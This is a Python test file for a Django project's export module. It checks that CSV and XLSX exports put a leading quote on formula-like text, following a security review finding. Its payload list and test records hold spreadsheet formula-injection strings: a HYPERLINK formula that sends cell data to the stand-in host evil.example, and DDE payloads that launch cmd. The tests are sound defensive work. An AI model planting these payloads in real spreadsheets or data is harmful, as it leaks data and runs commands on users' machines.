"""Security review (issue 11), finding 10: text that a spreadsheet reads as a formula (=, +, -, @, tab, CR)
is written with a leading quote in every CSV and XLSX export; real numbers stay numbers. Every export goes
through crossings/exports.py, and a module that writes a CSV or workbook another way fails here."""

import csv
import datetime as dt
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest
from django.core.management import call_command
from django.test import Client
from openpyxl import load_workbook

from crossings import exports
from crossings.accounts.roles import Role
from crossings.people.models import Person
from crossings.reception import services
from crossings.reception.models import Arrival, ArrivalBatch, Service, ServiceDelivery

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!A0",
    "-1+1",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]
CROSSINGS = Path(__file__).resolve().parent.parent / "crossings"
# Files written for machines, not spreadsheets, where a quote would change what they mean: the lists ODK
# Collect reads (sites, clients due a follow-up), and the XLSForm (our own constant text) pyxform compiles.
NOT_SPREADSHEETS = {"outreach/odk/media.py", "outreach/odk/xlsforms.py"}


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_text_gets_a_leading_quote(payload):
    assert exports.neutralise(payload) == "'" + payload


def test_plain_text_and_real_numbers_are_unchanged():
    assert exports.neutralise("Keo Bopha") == "Keo Bopha"
    assert exports.neutralise("a=b") == "a=b"
    for value in (-5, 2.5, Decimal("-25.00"), dt.date(2026, 1, 1), True, None):
        assert exports.neutralise(value) == value


def test_every_sheet_write_is_neutralised():
    book = exports.workbook()
    sheet = book.active
    sheet.append(["=1+1", 3])
    sheet.append({"B": "@x"})
    sheet.cell(row=5, column=1, value="+x")
    sheet["C1"] = "-2+3"
    other = book.create_sheet("more")
    other.append(["=A1"])
    read = load_workbook(io.BytesIO(save(book)))
    first, second = read.worksheets
    cells = [first[c].value for c in ("A1", "B1", "B2", "A5", "C1")]
    assert cells == ["'=1+1", 3, "'@x", "'+x", "'-2+3"]
    assert second["A1"].value == "'=A1" and second["A1"].data_type == "s"


def test_no_module_writes_a_csv_or_workbook_past_the_helper():
    pattern = re.compile(r"csv\.(writer|DictWriter)\(|(?<![\w.])Workbook\(|openpyxl\.Workbook\(")
    offenders = []
    for path in CROSSINGS.rglob("*.py"):
        name = path.relative_to(CROSSINGS).as_posix()
        if name == "exports.py" or name in NOT_SPREADSHEETS:
            continue
        if pattern.search(path.read_text(encoding="utf-8")):
            offenders.append(name)
    assert offenders == [], "write CSV and XLSX through crossings.exports"


def save(book):
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


@pytest.mark.django_db
def test_the_reception_programme_exports_neutralise_names(reception, make_user, login):
    officer = make_user(Role.CASEWORKER, reception)
    person = Person.objects.create(organisation=reception, family_name=PAYLOADS[0], given_name="-1+1")
    batch = ArrivalBatch.objects.create(
        organisation=reception, flight="CX", date=dt.date(2026, 3, 3), created_by=officer
    )
    Arrival.objects.create(batch=batch, person=person, received=True)
    services.ensure_catalogue(reception.pk)
    ServiceDelivery.objects.create(
        person=person,
        organisation=reception,
        date=dt.date(2026, 3, 4),
        cost=25,
        service=Service.objects.filter(organisation=reception).first(),
        delivered_by=officer,
    )
    client = login(officer)
    response = client.get("/reception/programme/?from=2026-01-01&to=2026-12-31&format=csv")
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[2][1].startswith("'=HYPERLINK(") and rows[2][7] == "25.00"
    xlsx = client.get("/reception/programme/?from=2026-01-01&to=2026-12-31&format=xlsx")
    sheet = load_workbook(io.BytesIO(xlsx.content)).active
    name, cost = sheet.cell(3, 2), sheet.cell(3, 8)
    assert name.value.startswith("'=HYPERLINK(") and name.data_type == "s"
    assert cost.value == 25.0 and cost.data_type == "n"


@pytest.mark.django_db
def test_the_public_statistics_csv_and_the_cli_neutralise_sources(tmp_path):
    from crossings.stats.importers import SourceInfo, import_file

    path = tmp_path / "table.csv"
    # FY2011: a year no built-in series covers, so the one row of that year is this import's
    path.write_text("measure,country,year,breakdown,value\nremovals,Cambodia,2011,total,61\n")
    import_file(path, source=SourceInfo(title="=HYPERLINK(1)", published="2012"))
    rows = list(csv.DictReader(io.StringIO(Client().get("/stats/removals.csv").content.decode())))
    row = next(r for r in rows if r["year"] == "2011")
    assert row["total"] == "61" and row["source"].startswith("'=HYPERLINK(1)")
    out = io.StringIO()
    call_command("stats", "removals", "--country", "Cambodia", stdout=out)
    cli = [r for r in csv.DictReader(io.StringIO(out.getvalue())) if r["year"] == "2011"]
    assert cli and cli[0]["source"].startswith("'=HYPERLINK(1)")


@pytest.mark.django_db
def test_the_programme_statistics_workbook_neutralises_the_organisation_name(make_org, make_user):
    from crossings.stats import reports
    from crossings.stats.models import Report

    org = make_org("@SUM(1+1)*cmd|' /C calc'!A0", "reception", "KH")
    analyst = make_user(Role.ANALYST, org)
    report = Report.objects.create(
        organisation=org,
        requested_by=analyst,
        period_start=dt.date(2020, 1, 1),
        period_end=dt.date(2023, 12, 31),
        language="en",
        format=Report.Format.XLSX,
    )
    done = reports.build(report.pk)
    sheet = load_workbook(io.BytesIO(bytes(done.content))).worksheets[0]
    assert sheet["A1"].value == "'@SUM(1+1)*cmd|' /C calc'!A0"
